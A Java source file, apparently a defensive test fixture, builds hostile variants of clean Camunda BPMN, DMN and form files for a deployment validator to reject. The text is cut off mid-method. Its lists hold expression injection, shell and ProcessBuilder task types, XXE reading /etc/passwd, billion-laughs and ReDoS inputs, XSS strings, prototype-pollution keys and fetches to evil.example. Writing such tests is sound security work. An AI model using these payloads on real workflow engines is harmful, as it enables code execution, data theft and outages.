package org.gatehouse.engine;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** Models that try to do harm, each one harmless model with one thing changed, and the harmless models themselves. */
public final class HostileDiagrams {

    /** A file somebody might try to deploy; the name says what it tries, by kind and way. */
    public record Payload(String name, String fileName, byte[] content) {

        @Override
        public String toString() {
            return name;
        }
    }

    /** The steps that the harmless diagram uses. */
    static final StepCatalogue STEPS = StepCatalogue.of(
            new StepCatalogue.Entry(
                    "linkGroup",
                    "Link the group",
                    List.of("ritm"),
                    List.of("linked"),
                    List.of("GROUP_UNSUITABLE"),
                    true,
                    false,
                    false,
                    false),
            new StepCatalogue.Entry(
                    "tellRequester",
                    "Tell the requester",
                    List.of("ritm"),
                    List.of(),
                    List.of(),
                    false,
                    false,
                    false,
                    false),
            new StepCatalogue.Entry(
                    "briefReviewer",
                    "Brief the reviewer",
                    List.of(),
                    List.of("brief"),
                    List.of(),
                    false,
                    true,
                    false,
                    false));

    /** A small diagram with nothing wrong in it, for a file called sample.bpmn. */
    static final String DIAGRAM = """
            <?xml version="1.0" encoding="UTF-8"?>
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC"
                xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:modeler="http://camunda.org/schema/modeler/1.0"
                id="sample-definitions" targetNamespace="https://gatehouse.example/bpmn"
                modeler:executionPlatform="Camunda Platform" modeler:executionPlatformVersion="7.24.0">
              <bpmn:process id="sample" name="Link a group" isExecutable="true" camunda:versionTag="1.0.0" camunda:historyTimeToLive="P730D">
                <bpmn:documentation>Links a group to a policy.</bpmn:documentation>
                <bpmn:startEvent id="asked" name="Link asked for">
                  <bpmn:outgoing>to-rate</bpmn:outgoing>
                </bpmn:startEvent>
                <bpmn:businessRuleTask id="rate" name="Rate the request" camunda:decisionRef="table" camunda:decisionRefBinding="latest" camunda:mapDecisionResult="singleEntry" camunda:resultVariable="rating">
                  <bpmn:incoming>to-rate</bpmn:incoming>
                  <bpmn:outgoing>to-review</bpmn:outgoing>
                </bpmn:businessRuleTask>
                <bpmn:userTask id="review" name="Review the request" camunda:formRef="form" camunda:formRefBinding="deployment" camunda:candidateGroups="reviewers" camunda:dueDate="${reviewDueAt}">
                  <bpmn:documentation>A reviewer decides.</bpmn:documentation>
                  <bpmn:extensionElements>
                    <camunda:taskListener delegateExpression="${briefReviewer}" event="create" />
                  </bpmn:extensionElements>
                  <bpmn:incoming>to-review</bpmn:incoming>
                  <bpmn:outgoing>to-approved</bpmn:outgoing>
                </bpmn:userTask>
                <bpmn:boundaryEvent id="overdue" name="Review overdue" cancelActivity="false" attachedToRef="review">
                  <bpmn:outgoing>to-tell</bpmn:outgoing>
                  <bpmn:timerEventDefinition id="overdue-timer">
                    <bpmn:timeDate xsi:type="bpmn:tFormalExpression">${reviewDueAt}</bpmn:timeDate>
                  </bpmn:timerEventDefinition>
                </bpmn:boundaryEvent>
                <bpmn:serviceTask id="tell" name="Tell the requester" camunda:delegateExpression="${tellRequester}">
                  <bpmn:documentation>Says that it takes longer.</bpmn:documentation>
                  <bpmn:incoming>to-tell</bpmn:incoming>
                  <bpmn:outgoing>to-told</bpmn:outgoing>
                </bpmn:serviceTask>
                <bpmn:endEvent id="told" name="Requester told">
                  <bpmn:incoming>to-told</bpmn:incoming>
                </bpmn:endEvent>
                <bpmn:exclusiveGateway id="approved" name="Approved?" default="approved-no">
                  <bpmn:incoming>to-approved</bpmn:incoming>
                  <bpmn:outgoing>approved-yes</bpmn:outgoing>
                  <bpmn:outgoing>approved-no</bpmn:outgoing>
                </bpmn:exclusiveGateway>
                <bpmn:subProcess id="linking" name="Linking">
                  <bpmn:incoming>approved-yes</bpmn:incoming>
                  <bpmn:outgoing>to-call</bpmn:outgoing>
                  <bpmn:startEvent id="linking-entered" name="Request approved">
                    <bpmn:outgoing>to-link</bpmn:outgoing>
                  </bpmn:startEvent>
                  <bpmn:serviceTask id="link" name="Link the group" camunda:asyncBefore="true" camunda:jobPriority="50" camunda:delegateExpression="${linkGroup}">
                    <bpmn:documentation>Links the group.</bpmn:documentation>
                    <bpmn:extensionElements>
                      <camunda:failedJobRetryTimeCycle>PT30S,PT2M</camunda:failedJobRetryTimeCycle>
                    </bpmn:extensionElements>
                    <bpmn:incoming>to-link</bpmn:incoming>
                    <bpmn:outgoing>to-linked</bpmn:outgoing>
                  </bpmn:serviceTask>
                  <bpmn:endEvent id="linked" name="Group linked">
                    <bpmn:incoming>to-linked</bpmn:incoming>
                  </bpmn:endEvent>
                  <bpmn:sequenceFlow id="to-link" sourceRef="linking-entered" targetRef="link" />
                  <bpmn:sequenceFlow id="to-linked" sourceRef="link" targetRef="linked" />
                </bpmn:subProcess>
                <bpmn:boundaryEvent id="unfit" name="Group unfit" attachedToRef="linking">
                  <bpmn:outgoing>to-refused</bpmn:outgoing>
                  <bpmn:errorEventDefinition id="unfit-error" errorRef="unsuitable" camunda:errorMessageVariable="because" />
                </bpmn:boundaryEvent>
                <bpmn:callActivity id="call" name="Check the link" calledElement="link-check">
                  <bpmn:extensionElements>
                    <camunda:in source="ritm" target="ritm" />
                  </bpmn:extensionElements>
                  <bpmn:incoming>to-call</bpmn:incoming>
                  <bpmn:outgoing>to-done</bpmn:outgoing>
                </bpmn:callActivity>
                <bpmn:endEvent id="done" name="Request completed">
                  <bpmn:incoming>to-done</bpmn:incoming>
                </bpmn:endEvent>
                <bpmn:endEvent id="refused" name="Request refused">
                  <bpmn:incoming>approved-no</bpmn:incoming>
                  <bpmn:incoming>to-refused</bpmn:incoming>
                </bpmn:endEvent>
                <bpmn:sequenceFlow id="to-rate" sourceRef="asked" targetRef="rate" />
                <bpmn:sequenceFlow id="to-review" sourceRef="rate" targetRef="review" />
                <bpmn:sequenceFlow id="to-approved" sourceRef="review" targetRef="approved" />
                <bpmn:sequenceFlow id="to-tell" sourceRef="overdue" targetRef="tell" />
                <bpmn:sequenceFlow id="to-told" sourceRef="tell" targetRef="told" />
                <bpmn:sequenceFlow id="approved-yes" name="yes" sourceRef="approved" targetRef="linking">
                  <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${decision == 'APPROVE'}</bpmn:conditionExpression>
                </bpmn:sequenceFlow>
                <bpmn:sequenceFlow id="approved-no" name="no" sourceRef="approved" targetRef="refused" />
                <bpmn:sequenceFlow id="to-refused" sourceRef="unfit" targetRef="refused" />
                <bpmn:sequenceFlow id="to-call" sourceRef="linking" targetRef="call" />
                <bpmn:sequenceFlow id="to-done" sourceRef="call" targetRef="done" />
              </bpmn:process>
              <bpmn:message id="withdrawn" name="withdrawn" />
              <bpmn:error id="unsuitable" name="unsuitable" errorCode="GROUP_UNSUITABLE" />
              <bpmndi:BPMNDiagram id="sample-diagram">
                <bpmndi:BPMNPlane id="sample-plane" bpmnElement="sample">
            """ + drawn("Shape", """
                            asked rate review overdue tell told approved linking linking-entered link linked unfit call done
                            refused""", """
                            <dc:Bounds x="10" y="20" width="100" height="80" />""") + drawn("Edge", """
                            to-rate to-review to-approved to-tell to-told approved-yes approved-no to-refused to-link
                            to-linked to-call to-done""", """
                            <di:waypoint x="10" y="20" /><di:waypoint x="30" y="20" />""") + """
                            </bpmndi:BPMNPlane>
                          </bpmndi:BPMNDiagram>
                        </bpmn:definitions>
                        """;

    /** A small decision table with nothing wrong in it, for a file called table.dmn. */
    static final String TABLE = """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
                xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="table-definitions" name="Ratings"
                namespace="https://gatehouse.example/dmn"
                modeler:executionPlatform="Camunda Platform" modeler:executionPlatformVersion="7.24.0">
              <decision id="table" name="Rate a request" camunda:historyTimeToLive="P730D" camunda:versionTag="1.0.0">
                <decisionTable id="rates" hitPolicy="FIRST">
                  <input id="size" label="Members">
                    <inputExpression id="size-read" typeRef="integer"><text>members</text></inputExpression>
                  </input>
                  <output id="rate" label="Rating" name="rating" typeRef="string" />
                  <rule id="small">
                    <inputEntry id="small-if"><text>[1..50]</text></inputEntry>
                    <outputEntry id="small-then"><text>"SMALL"</text></outputEntry>
                  </rule>
                  <rule id="any">
                    <description>Everything else.</description>
                    <inputEntry id="any-if"><text></text></inputEntry>
                    <outputEntry id="any-then"><text>"LARGE"</text></outputEntry>
                  </rule>
                </decisionTable>
              </decision>
            </definitions>
            """;

    /** A small form with nothing wrong in it, for a file called form.form. */
    static final String FORM = """
            {
              "id": "form",
              "type": "default",
              "schemaVersion": 16,
              "executionPlatform": "Camunda Platform",
              "executionPlatformVersion": "7.24.0",
              "exporter": {"name": "Camunda Modeler", "version": "5.40.0"},
              "components": [
                {"id": "intro", "type": "text", "text": "# Decide\\nSee [the rules](/rules)."},
                {"id": "decided", "type": "radio", "key": "decision", "label": "Decision", "validate": {"required": true},
                 "values": [{"label": "Approve", "value": "APPROVE"}, {"label": "Reject", "value": "REJECT"}]},
                {"id": "why", "type": "textarea", "key": "comment", "conditional": {"hide": "=decision = \\"APPROVE\\""}}
              ]
            }
            """;

    /** Where a line of the lists below changes its model; with a plus sign the change is put in front of the place. */
    private static final Map<String, String> PLACES = Map.ofEntries(
            Map.entry("condition", "${decision == 'APPROVE'}"),
            Map.entry("condition-end", ">${decision == 'APPROVE'}"),
            Map.entry("due", "camunda:dueDate=\"${reviewDueAt}\""),
            Map.entry("groups", "camunda:candidateGroups=\"reviewers\""),
            Map.entry("form", "camunda:formRef=\"form\" camunda:formRefBinding=\"deployment\""),
            Map.entry("step", "camunda:delegateExpression=\"${tellRequester}\""),
            Map.entry("step-id", "id=\"tell\""),
            Map.entry("step-end", "<bpmn:outgoing>to-told</bpmn:outgoing>"),
            Map.entry("listener", "delegateExpression=\"${briefReviewer}\" event=\"create\""),
            Map.entry("decision", "camunda:decisionRef=\"table\""),
            Map.entry("called", "calledElement=\"link-check\""),
            Map.entry("parameter", "source=\"ritm\" target=\"ritm\""),
            Map.entry("timer", "<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${reviewDueAt}</bpmn:timeDate>"),
            Map.entry("type", "xsi:type=\"bpmn:tFormalExpression\""),
            Map.entry("retries", "<camunda:failedJobRetryTimeCycle>PT30S,PT2M</camunda:failedJobRetryTimeCycle>"),
            Map.entry("extension", "<camunda:taskListener "),
            Map.entry("start-id", "id=\"asked\""),
            Map.entry("in-process", "<bpmn:startEvent id=\"asked\""),
            Map.entry("in-start", "<bpmn:outgoing>to-rate</bpmn:outgoing>"),
            Map.entry("in-timer", "<bpmn:timeDate "),
            Map.entry("in-end", "<bpmn:incoming>to-done</bpmn:incoming>"),
            Map.entry("in-file", "<bpmn:process id"),
            Map.entry("file-id", "id=\"sample-definitions\""),
            Map.entry("root", "<bpmn:definitions "),
            Map.entry("history", "camunda:historyTimeToLive=\"P730D\""),
            Map.entry("cell", "[1..50]"),
            Map.entry("hits", "hitPolicy=\"FIRST\""),
            Map.entry("table", "<decisionTable id"),
            Map.entry("table-root", "<definitions "),
            Map.entry("table-name", "name=\"Ratings\""),
            Map.entry("in-table-file", "<decision id"),
            Map.entry("rule-end", "<inputEntry id=\"small-if\">"),
            Map.entry("field", "{\"id\": \"intro\", "));

    private static final String DIAGRAMS = """
            expression: method | condition | <evil>
            expression: services of the engine | condition | ${execution.processEngineServices.runtimeService}
            expression: property | condition | ${decision.class}
            expression: bracket | condition | ${decision['class']}
            expression: call of a variable | condition | ${decision()}
            expression: function | condition | ${now()}
            expression: either | condition | ${decision == 'APPROVE' || true}
            expression: compared with a property | condition | ${decision == other.name}
            expression: assignment | condition | ${decision = 'APPROVE'}
            expression: choice | condition | ${decision ? a : b}
            expression: empty | condition | ${empty decision}
            expression: not | condition | ${not decision}
            expression: the execution itself | condition | ${execution}
            expression: the execution denied | condition | ${!execution}
            expression: the user | condition | ${authenticatedUserId}
            expression: literal | condition | ${true}
            expression: number | condition | ${1}
            expression: capital letter | condition | ${Decision}
            expression: two | condition | ${decision}${decision}
            expression: with text after it | condition | ${decision} or not
            expression: with text before it | condition | APPROVE ${decision}
            expression: one inside another | condition | ${${decision}}
            expression: one inside a value | condition | ${decision == '${decision}'}
            expression: backslash | condition | \\${decision}
            expression: deferred | condition | #{decision}
            expression: not closed | condition | ${decision
            expression: none | condition | decision
            hidden: character reference | condition | &#36;{decision.class}
            hidden: hexadecimal reference | condition | &#x24;&#x7b;decision.class}
            hidden: reference in an attribute | due | camunda:dueDate="&#x23;{execution.id}"
            hidden: CDATA | condition | <![CDATA[${decision.class}]]>
            hidden: split CDATA | condition | <![CDATA[$]]><![CDATA[{decision.class}]]>
            hidden: comment inside | condition | $<!-- -->{decision.class}
            hidden: after a good one | condition | ${decision}<!-- -->${decision.class}
            hidden: loose text in an element | in-start + | ${execution.id}
            hidden: text beside a child | in-timer + | <![CDATA[${now()}]]>
            attribute: name of a user task | name="Review the request" | name="Review <evil>"
            attribute: description of a user task | A reviewer decides. | <evil>
            attribute: name of a message | name="withdrawn" | name="<evil>"
            attribute: due date | due | camunda:dueDate="<evil>"
            attribute: follow-up date | due + | camunda:followUpDate="<evil>"
            attribute: candidate group | groups | camunda:candidateGroups="<evil>"
            attribute: second group | groups | camunda:candidateGroups="reviewers,${execution.id}"
            attribute: endless list of groups | groups | camunda:candidateGroups="<list>"
            attribute: called element | called | calledElement="<evil>"
            attribute: called by a variable | called | calledElement="${process}"
            attribute: tenant | called + | camunda:calledElementTenantId="<evil>"
            attribute: decision | decision | camunda:decisionRef="${table}"
            attribute: decision version | decision + | camunda:decisionRefVersion="<evil>"
            attribute: result variable | resultVariable="rating" | resultVariable="<evil>"
            attribute: job priority | jobPriority="50" | jobPriority="<evil>"
            attribute: task priority | due + | camunda:priority="<evil>"
            attribute: form | form | camunda:formRef="<evil>"
            attribute: form version | form | camunda:formRef="x" camunda:formRefBinding="version" camunda:formRefVersion="<evil>"
            attribute: retries | PT30S,PT2M | <evil>
            attribute: error message | errorCode= | camunda:errorMessage="<evil>" errorCode=
            attribute: error message variable | errorMessageVariable="because" | errorMessageVariable="<evil>"
            attribute: history | history | camunda:historyTimeToLive="<evil>"
            attribute: history thrown away | history | camunda:historyTimeToLive="P0D"
            attribute: version tag | versionTag="1.0.0" | versionTag="<evil>"
            attribute: target namespace | https://gatehouse.example/bpmn | <evil>
            script: juel task | in-process + | <bpmn:scriptTask id="x" scriptFormat="juel"><bpmn:script>1</bpmn:script></bpmn:scriptTask>
            script: groovy task | in-process + | <bpmn:scriptTask id="x" scriptFormat="groovy" />
            script: from a resource | in-process + | <bpmn:scriptTask id="x" camunda:resource="http://127.0.0.1:9/" />
            script: condition | type | xsi:type="bpmn:tFormalExpression" language="juel"
            script: condition on a flow | condition-end + | language="javascript"
            script: condition from a resource | condition-end + | language="juel" camunda:resource="classpath://x"
            script: execution listener | extension + | <camunda:executionListener event="start"><camunda:script /></camunda:executionListener>
            script: task listener | extension + | <camunda:taskListener event="create"><camunda:script /></camunda:taskListener>
            script: loose | extension + | <camunda:script scriptFormat="juel">x</camunda:script>
            implementation: class | step | camunda:class="java.lang.ProcessBuilder"
            implementation: expression | step | camunda:expression="${execution.id}"
            implementation: plain expression | step | camunda:expression="${linkGroup}"
            implementation: mail | step | camunda:type="mail"
            implementation: shell | step | camunda:type="shell"
            implementation: external | step | camunda:type="external" camunda:topic="${execution.id}"
            implementation: bean of the application | step | camunda:delegateExpression="${environment}"
            implementation: literal | step | camunda:delegateExpression="linkGroup"
            implementation: deferred | step | camunda:delegateExpression="#{linkGroup}"
            implementation: method of a step | step | camunda:delegateExpression="${linkGroup.execute(execution)}"
            implementation: listener as a step | step | camunda:delegateExpression="${briefReviewer}"
            implementation: class beside a step | step + | camunda:class="x.Y"
            implementation: class of a rule task | decision | camunda:class="x.Y"
            implementation: delegate of a rule task | decision | camunda:delegateExpression="${linkGroup}"
            implementation: send task | in-process + | <bpmn:sendTask id="x" camunda:delegateExpression="${linkGroup}" />
            implementation: message end event | in-end + | <bpmn:messageEventDefinition camunda:class="x.Y" />
            implementation: field | extension + | <camunda:field name="x" expression="${now()}" />
            implementation: connector | extension + | <camunda:connector />
            implementation: error of an external task | extension + | <camunda:errorEventDefinition expression="${now()}" />
            implementation: mapping class | called + | camunda:variableMappingClass="x.Y"
            implementation: mapping delegate | called + | camunda:variableMappingDelegateExpression="${linkGroup}"
            implementation: case | called | camunda:caseRef="x"
            listener: class | listener | class="x.Y" event="create"
            listener: expression | listener | expression="${task.delete()}" event="create"
            listener: bean of the application | listener | delegateExpression="${dataSource}" event="create"
            listener: step | listener | delegateExpression="${linkGroup}" event="create"
            listener: method | listener | delegateExpression="${briefReviewer.notify(task)}" event="create"
            listener: timeout | listener | delegateExpression="${briefReviewer}" event="timeout" id="y"
            listener: timer inside | extension + | <camunda:taskListener event="create"><bpmn:timerEventDefinition /></camunda:taskListener>
            listener: field | extension + | <camunda:taskListener event="create"><camunda:field name="x" /></camunda:taskListener>
            listener: execution class | extension + | <camunda:executionListener class="x.Y" event="start" />
            listener: execution expression | extension + | <camunda:executionListener expression="${x.y}" event="end" />
            listener: execution step | extension + | <camunda:executionListener delegateExpression="${linkGroup}" event="end" />
            mapping: input | extension + | <camunda:inputOutput><camunda:inputParameter name="x">${x.y}</camunda:inputParameter></camunda:inputOutput>
            mapping: output | extension + | <camunda:inputOutput><camunda:outputParameter name="x">1</camunda:outputParameter></camunda:inputOutput>
            mapping: loose | extension + | <camunda:inputParameter name="x"><camunda:script>1</camunda:script></camunda:inputParameter>
            mapping: source expression | parameter | sourceExpression="${execution.id}" target="x"
            mapping: all variables | parameter | variables="all"
            mapping: business key | parameter | businessKey="#{execution.processBusinessKey}"
            mapping: target | parameter | source="x" target="${x}"
            mapping: property of a task | in-process + | <bpmn:userTask id="x"><bpmn:property camunda:srcExpr="${x.y}" /></bpmn:userTask>
            timer: method | timer | <bpmn:timeDate>${now().plusDays(1)}</bpmn:timeDate>
            timer: duration as a date | timer | <bpmn:timeDate>PT1S</bpmn:timeDate>
            timer: date in a zone | timer | <bpmn:timeDate>2026-10-24T12:00:00+01:00</bpmn:timeDate>
            timer: duration | timer | <bpmn:timeDuration>PT24H</bpmn:timeDuration>
            timer: duration of a variable | timer | <bpmn:timeDuration>${reviewDueAt}</bpmn:timeDuration>
            timer: cycle | timer | <bpmn:timeCycle>R9999999/PT1S</bpmn:timeCycle>
            timer: cron | timer | <bpmn:timeCycle>* * * * * ?</bpmn:timeCycle>
            loop: collection | step-end + | <loop camunda:collection="${execution.variables}" />
            loop: the execution itself | step-end + | <loop camunda:collection="execution" />
            loop: element variable | step-end + | <loop camunda:collection="accounts" camunda:elementVariable="${x}" />
            loop: endless | step-end + | <loop><bpmn:loopCardinality>999999999</bpmn:loopCardinality></loop>
            loop: cardinality | step-end + | <loop><bpmn:loopCardinality><evil></bpmn:loopCardinality></loop>
            loop: completion | step-end + | <loop><bpmn:completionCondition>${nrOfInstances.class}</bpmn:completionCondition></loop>
            loop: data input | step-end + | <loop><bpmn:loopDataInputRef>${execution.variables}</bpmn:loopDataInputRef></loop>
            loop: standard | step-end + | <bpmn:standardLoopCharacteristics />
            form: key | form | camunda:formKey="<evil>"
            form: embedded | form | camunda:formKey="embedded:http://evil.example/x"
            form: handler class | form + | camunda:formHandlerClass="x.Y"
            form: default value | extension + | <camunda:formData><camunda:formField id="y" defaultValue="${x.y}" /></camunda:formData>
            form: validator | extension + | <camunda:formField id="y"><camunda:validation /></camunda:formField>
            form: property | extension + | <camunda:formProperty id="y" expression="#{execution.id}" default="${now()}" />
            people: assignee | groups + | camunda:assignee="intruder"
            people: assignee expression | groups + | camunda:assignee="<evil>"
            people: candidate users | groups + | camunda:candidateUsers="${x.y}"
            people: starters | history + | camunda:candidateStarterUsers="${x.y}"
            people: initiator | start-id + | camunda:initiator="requester"
            people: potential owner | in-process + | <bpmn:userTask id="x"><bpmn:potentialOwner /></bpmn:userTask>
            people: potential starter | extension + | <camunda:potentialStarter />
            element: task | in-process + | <bpmn:task id="x" />
            element: manual task | in-process + | <bpmn:manualTask id="x" />
            element: complex gateway | in-process + | <bpmn:complexGateway id="x" />
            element: ad-hoc sub-process | in-process + | <bpmn:adHocSubProcess id="x" />
            element: transaction | in-process + | <bpmn:transaction id="x" />
            element: lanes | in-process + | <bpmn:laneSet id="x" />
            element: data object | in-process + | <bpmn:dataObject id="x" />
            element: definitions again | in-process + | <bpmn:definitions />
            element: message thrown | in-process + | <throw><bpmn:messageEventDefinition /></throw>
            element: signal | in-process + | <throw><bpmn:signalEventDefinition /></throw>
            element: condition | in-process + | <throw><bpmn:conditionalEventDefinition /></throw>
            element: link | in-process + | <throw><bpmn:linkEventDefinition /></throw>
            element: compensation | in-process + | <throw><bpmn:compensateEventDefinition /></throw>
            element: cancellation | in-process + | <throw><bpmn:cancelEventDefinition /></throw>
            element: signal of the file | in-file + | <bpmn:signal id="x" name="<evil>" />
            element: compensation handler | step + | isForCompensation="true"
            namespace: activiti | step | xmlns:a="http://activiti.org/bpmn" a:class="x.Y"
            namespace: activiti called camunda | step-id + | xmlns:camunda="http://activiti.org/bpmn"
            namespace: activiti around a child | extension + | <a:script xmlns:a="http://activiti.org/bpmn" />
            namespace: camunda by another name | step | xmlns:x="http://camunda.org/schema/1.0/bpmn" x:class="x.Y"
            namespace: fox | retries | <f:failedJobRetryTimeCycle xmlns:f="http://www.camunda.com/fox">${now()}</f:failedJobRetryTimeCycle>
            namespace: BPMN by default | in-process + | <scriptTask xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="x" />
            namespace: BPMN by another name | in-process + | <b:scriptTask xmlns:b="http://www.omg.org/spec/BPMN/20100524/MODEL" id="x" />
            namespace: BPMN in the one of drawings | in-process + | <bpmndi:scriptTask id="x" />
            namespace: BPMN in the one of the engine | in-process + | <camunda:scriptTask id="x" />
            namespace: none | in-process + | <scriptTask id="x" />
            namespace: one that looks like a prefix | in-process + | <b:serviceTask xmlns:b="bpmn" id="x" />
            namespace: XHTML | in-process + | <h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>
            namespace: prefixed id | start-id + | bpmn:id="x"
            namespace: declared only | file-id + | xmlns:zeebe="http://camunda.org/schema/zeebe/1.0"
            namespace: base | start-id + | xml:base="http://127.0.0.1:9/"
            schema: location | file-id + | xsi:schemaLocation="x http://127.0.0.1:9/x.xsd"
            schema: location without a namespace | file-id + | xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/x.xsd"
            schema: location by another name | file-id + | xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="x http://127.0.0.1:9/"
            schema: location deep inside | start-id + | xsi:schemaLocation="x http://127.0.0.1:9/"
            schema: another type | type | xsi:type="bpmn:tScriptTask"
            schema: the type of another namespace | type | xsi:type="camunda:tFormalExpression"
            schema: a type by an unknown prefix | type | xsi:type="nobody:tFormalExpression"
            schema: type elsewhere | start-id + | xsi:type="bpmn:tScriptTask"
            schema: import | in-file + | <bpmn:import importType="http://schemas.xmlsoap.org/wsdl/" location="http://127.0.0.1:9/" />
            xml: external entity | root + | <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
            xml: external DTD | root + | <!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">
            xml: parameter entity | root + | <!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:9/"> %e;]>
            xml: billion laughs | root + | <!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>
            xml: style sheet | root + | <?xml-stylesheet href="http://127.0.0.1:9/"?>
            xml: undeclared entity | A reviewer decides. | &passwd;
            xml: inclusion | in-file + | <x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" />
            xml: instruction inside | in-file + | <?php x ?>
            xml: version 1.1 | version="1.0" | version="1.1"
            xml: other encoding | UTF-8 | ISO-8859-1
            xml: unknown encoding | UTF-8 | UTF-7
            """;

    private static final String TABLES = """
            table: external function | cell | function(x) external {java: {class: "x"}}
            table: endless loop | cell | for i in 1..1000000000 return i
            table: some | cell | some i in [1,2] satisfies i = 1
            table: every | cell | every i in members satisfies true
            table: wide range | cell | [1..1000000000]
            table: wide negative range | cell | -9000 .. 9000
            table: unknown function | cell | get entries(members)
            table: regular expression | cell | matches("aaaaaaaaaaaaaaaa!", "(a+)+$")
            table: function by a longer name | cell | evilcontains(1)
            table: clock | cell | now()
            table: property | cell | members.class
            table: context | cell | {a: 1}
            table: tower of powers | cell | 9**9**9**9
            table: comment | cell | /* " */ for i in 1..9 return i /* " */
            table: comment to the end of the line | cell | // " for i in 1..9 return i "
            table: escaped quotation mark | cell | "\\" for i in 1..9 return i \\""
            table: quoted name | cell | `members`
            table: exponent | cell | 1e999999999
            table: expression | cell | ${members.class}
            table: deferred expression in a text | cell | "#{members.class}"
            table: long cell | cell | "<long>"
            table: hit policy | hits | hitPolicy="PRIORITY"
            table: sum without collecting | hits + | aggregation="SUM"
            table: input variable | <input id | <input camunda:inputVariable="${x.y}" id
            table: history | history | camunda:historyTimeToLive="${x}"
            language: of a cell | rule-end | <inputEntry expressionLanguage="juel">
            language: of a result | <outputEntry id="small-then"> | <outputEntry expressionLanguage="groovy">
            language: of an input | <inputExpression id | <inputExpression expressionLanguage="javascript" id
            language: of the file | table-name + | expressionLanguage="juel"
            language: of types | table-name + | typeLanguage="http://www.w3.org/2001/XMLSchema"
            logic: knowledge model | in-table-file + | <businessKnowledgeModel id="x" />
            logic: import | in-table-file + | <import importType="x" locationURI="http://127.0.0.1:9/" />
            logic: item definition | in-table-file + | <itemDefinition id="x" />
            logic: decision of another file | table + | <informationRequirement><requiredDecision href="http://127.0.0.1:9/#x" /></informationRequirement>
            logic: invocation | table + | <invocation><literalExpression><text>x</text></literalExpression></invocation>
            logic: context | table + | <context><contextEntry /></context>
            logic: function | table + | <functionDefinition kind="Java" />
            logic: juel | table + | <literalExpression expressionLanguage="juel"><text>1</text></literalExpression>
            logic: loop | table + | <literalExpression><text>for i in 1..9 return i</text></literalExpression>
            logic: imported values | table + | <literalExpression><importedValues /></literalExpression>
            inside: schema | table-name + | xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://127.0.0.1:9/"
            inside: extension | rule-end + | <extensionElements><x xmlns="y" /></extensionElements>
            inside: diagram | in-table-file + | <b:scriptTask xmlns:b="http://www.omg.org/spec/BPMN/20100524/MODEL" />
            xml: entity in a table | table-root + | <!DOCTYPE definitions SYSTEM "http://127.0.0.1:9/">
            """;

    private static final String FORMS = """
            field: iframe | field + | {"type": "iframe", "url": "https://evil.example/"},
            field: HTML | field + | {"type": "html", "content": "<img src=x onerror=alert(1)>"},
            field: image | field + | {"type": "image", "source": "x.png"},
            field: file picker | field + | {"type": "filepicker", "key": "file"},
            field: no type | field + | {"key": "file"},
            field: no field | field + | "iframe",
            field: unknown property | field + | {"type": "text", "onclick": "x"},
            field: inside a group | field + | {"type": "group", "components": [{"type": "iframe"}]},
            field: source of data | field + | {"type": "table", "dataSource": "=fetch(\\"http://evil.example\\")"},
            field: link | field + | {"type": "text", "text": "[x](https://evil.example/)"},
            field: link without a scheme | field + | {"type": "text", "text": "[x](//evil.example/)"},
            field: script link | field + | {"type": "text", "text": "[x](JavaScript:alert(1))"},
            field: data link | field + | {"type": "text", "text": "[x](data:text/html,x)"},
            field: picture in a text | field + | {"type": "text", "text": "![x](/logout)"},
            field: markup | field + | {"type": "text", "text": "a <script>alert(1)</script>"},
            field: markup in an option | field + | {"type": "radio", "values": [{"label": "<b>x</b>"}]},
            field: expression | field + | {"type": "textfield", "defaultValue": "${execution.id}"},
            field: hidden expression | field + | {"type": "textfield", "label": "\\u0024{execution.id}"},
            field: prototype | field + | {"type": "textfield", "key": "__proto__.polluted"},
            field: constructor | field + | {"type": "textfield", "key": "a.constructor.prototype.polluted"},
            field: key that is no text | field + | {"type": "textfield", "key": ["__proto__", "polluted"]},
            field: endless key | field + | {"type": "textfield", "key": "<path>"},
            form file: newer schema | "schemaVersion": 16 | "schemaVersion": 17
            form file: fraction of a schema | "schemaVersion": 16 | "schemaVersion": 16.5
            form file: no schema | "schemaVersion": 16, | "versionTag": "1",
            form file: unknown part | "type": "default" | "type": "default", "scripts": []
            json: part twice | "type": "default" | "type": "default", "type": "default"
            """;

    private HostileDiagrams() {}

    /** All of them. */
    public static List<Payload> all() {
        return Stream.of(
                        changes("sample.bpmn", DIAGRAM, DIAGRAMS),
                        changes("table.dmn", TABLE, TABLES),
                        changes("form.form", FORM, FORMS),
                        files(),
                        strangeFiles())
                .flatMap(payloads -> payloads)
                .toList();
    }

    private static Stream<Payload> strangeFiles() {
        String deep = "<bpmn:subProcess>".repeat(5000) + "</bpmn:subProcess>".repeat(5000);
        return Stream.of(
                new Payload("xml: very deep", "sample.bpmn", bytes(changed(DIAGRAM, "A reviewer decides.", deep))),
                new Payload("xml: UTF-16", "sample.bpmn", DIAGRAM.getBytes(StandardCharsets.UTF_16)),
                new Payload("xml: nothing", "sample.bpmn", new byte[0]),
                new Payload("xml: another root", "sample.bpmn", bytes("<bpmn xmlns='x'/>")),
                new Payload("xml: too large", "sample.bpmn", bytes(DIAGRAM + " ".repeat(1 << 20))),
                new Payload("xml: form in a diagram", "sample.bpmn", bytes(FORM)),
